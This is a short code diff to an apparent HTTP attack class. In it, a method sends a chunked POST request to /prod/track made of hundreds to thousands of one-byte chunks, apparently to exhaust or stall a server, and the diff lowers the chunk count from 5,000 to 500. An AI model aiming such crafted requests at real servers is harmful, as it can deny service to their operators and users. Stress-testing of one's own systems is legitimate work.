@@ -298,7 +298,7 @@ class Attack:
 
     async def pieces(self):
         await self.hold(b"POST /prod/track HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
-                        + b"1\r\n \r\n" * 5_000)
+                        + b"1\r\n \r\n" * 500)
 
     async def hold(self, data, check=False):
         writers = []
